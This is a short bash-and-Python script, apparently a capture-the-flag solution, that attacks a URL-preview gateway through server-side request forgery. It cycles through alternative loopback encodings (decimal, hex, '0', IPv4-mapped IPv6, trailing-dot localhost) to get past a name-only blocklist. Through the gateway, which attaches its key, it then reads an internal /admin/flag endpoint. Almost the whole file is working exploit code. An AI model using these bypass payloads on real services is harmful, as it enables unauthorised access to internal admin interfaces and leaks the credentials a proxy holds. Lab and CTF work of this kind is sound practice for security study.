#!/bin/bash
# The gateway blocks "localhost"/"127.*" by name only. 127.0.0.1 written as one decimal number
# (2130706433) passes the check, resolves to loopback, and the gateway attaches its key.
set -e
python3 - <<'PY'
import json, re, urllib.parse, urllib.request, urllib.error
def preview(u):
    try:
        r = urllib.request.urlopen("http://127.0.0.1:8108/preview?" + urllib.parse.urlencode({"url": u}))
    except urllib.error.HTTPError as e:
        r = e
    return json.loads(r.read())
for host in ["2130706433", "0x7f000001", "0", "[::ffff:127.0.0.1]", "localhost."]:
    index = preview("http://%s:8118/" % host)
    if index.get("status") == 200:
        break
res = preview("http://%s:8118/admin/flag" % host)
print(re.search(r"flag\{[^}]+\}", res["snippet"]).group(0))
PY
